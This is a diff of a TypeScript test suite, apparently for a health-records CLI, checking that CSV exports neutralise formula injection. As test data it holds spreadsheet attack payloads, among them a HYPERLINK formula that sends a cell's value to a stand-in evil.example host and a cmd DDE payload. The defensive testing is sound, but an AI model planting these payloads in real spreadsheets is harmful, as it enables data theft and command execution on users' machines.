@@ -9,13 +9,26 @@ import {repoRoot, runJson, useTempHome, type TestHome} from '../helpers/cli.js'
 /** Issue 18 #8: CSV formula injection. */
 describe('CSV cells are neutralised against formula injection (OWASP)', () => {
   it('prefixes a single quote to strings starting with = + - @ tab or CR', () => {
-    for (const cell of ['=HYPERLINK("http://evil.example","click")', '@SUM(A1)', '+cmd|\' /C calc\'!A0', '-cmd', '\t=1+1', '\r=1+1', '=1', '-2+3', '+', '-', '@']) {
+    for (const cell of [
+      '=HYPERLINK("http://evil.example","click")',
+      '@SUM(A1)',
+      "+cmd|' /C calc'!A0",
+      '-cmd',
+      '\t=1+1',
+      '\r=1+1',
+      '=1',
+      '-2+3',
+      '+',
+      '-',
+      '@',
+    ]) {
       expect(neutraliseCsvCell(cell), cell).toBe(`'${cell}`)
     }
   })
 
   it('leaves other strings and numbers as they are (a negative number is data, not a formula)', () => {
-    for (const cell of ['Diabetes', 'a=b', ' =1', "'=already", '', 'E11.9', '-5', '+1.5', '-0.25', '2e-3', '-.5']) expect(neutraliseCsvCell(cell), cell).toBe(cell)
+    for (const cell of ['Diabetes', 'a=b', ' =1', "'=already", '', 'E11.9', '-5', '+1.5', '-0.25', '2e-3', '-.5'])
+      expect(neutraliseCsvCell(cell), cell).toBe(cell)
     expect(csvField(-5)).toBe('-5')
     expect(csvField(-0.25)).toBe('-0.25')
     expect(csvField(true)).toBe('true')
@@ -25,8 +38,16 @@ describe('CSV cells are neutralised against formula injection (OWASP)', () => {
   it('neutralises before quoting, and csv-parse reads the neutralised text back', () => {
     const table: Table = {
       name: 'conditions',
-      columns: [{name: 'display', type: 'STRING'}, {name: 'value', type: 'DOUBLE'}],
-      rows: [['=HYPERLINK("http://evil.example/?"&A1,"Click")', -1.5], ['@SUM(A1)', 2], ['-cmd,"x"', null], ['ok', -0]],
+      columns: [
+        {name: 'display', type: 'STRING'},
+        {name: 'value', type: 'DOUBLE'},
+      ],
+      rows: [
+        ['=HYPERLINK("http://evil.example/?"&A1,"Click")', -1.5],
+        ['@SUM(A1)', 2],
+        ['-cmd,"x"', null],
+        ['ok', -0],
+      ],
     }
     const rows = parse(tableToCsv(table), {columns: true}) as Array<Record<string, string>>
     expect(rows.map((r) => r.display)).toEqual(['\'=HYPERLINK("http://evil.example/?"&A1,"Click")', "'@SUM(A1)", '\'-cmd,"x"', 'ok'])
@@ -56,7 +77,20 @@ describe('research export as CSV from an imported legacy CSV with formula cells 
     expect(imported.exitCode, JSON.stringify(imported.envelope)).toBe(0)
     expect((await runJson(['profile', 'create', 'lab'])).exitCode).toBe(0)
     for (const mrn of ['A-100', 'A-101']) {
-      const g = await runJson(['consent', 'grant', '--patient', `http://legacy.example/mrn|${mrn}`, '--grantee', 'lab', '--purpose', 'HRESCH', '--classes', 'demographics,conditions,medications,labs', '--until', '365d'])
+      const g = await runJson([
+        'consent',
+        'grant',
+        '--patient',
+        `http://legacy.example/mrn|${mrn}`,
+        '--grantee',
+        'lab',
+        '--purpose',
+        'HRESCH',
+        '--classes',
+        'demographics,conditions,medications,labs',
+        '--until',
+        '365d',
+      ])
       expect(g.exitCode, JSON.stringify(g.envelope)).toBe(0)
     }
   }, 300_000)
@@ -64,7 +98,20 @@ describe('research export as CSV from an imported legacy CSV with formula cells 
 
   it('conditions.csv and medications.csv hold the formula cells neutralised', async () => {
     const out = join(t.home, 'export')
-    const r = await runJson(['export', 'research', '--grantee', 'lab', '--classes', 'demographics,conditions,medications,labs', '--format', 'csv', '--k', '1', '--out', out])
+    const r = await runJson([
+      'export',
+      'research',
+      '--grantee',
+      'lab',
+      '--classes',
+      'demographics,conditions,medications,labs',
+      '--format',
+      'csv',
+      '--k',
+      '1',
+      '--out',
+      out,
+    ])
     expect(r.exitCode, JSON.stringify(r.envelope)).toBe(0)
     const read = (name: string) => parse(readFileSync(join(out, name), 'utf8'), {columns: true}) as Array<Record<string, string>>
     const conditions = read('conditions.csv')
@@ -74,7 +121,8 @@ describe('research export as CSV from an imported legacy CSV with formula cells 
     expect(medications.map((m) => m.display).sort()).toEqual(["'+1+1", "'@SUM(A1)"])
     // No cell of any table starts a formula.
     for (const name of ['patients.csv', 'conditions.csv', 'medications.csv', 'observations.csv']) {
-      for (const row of read(name)) for (const cell of Object.values(row)) expect(cell, `${name}: ${cell}`).not.toMatch(/^[=+@\t\r]|^-(?!\d|\.\d)/)
+      for (const row of read(name))
+        for (const cell of Object.values(row)) expect(cell, `${name}: ${cell}`).not.toMatch(/^[=+@\t\r]|^-(?!\d|\.\d)/)
     }
     expect(cells.length).toBeGreaterThan(0)
   })
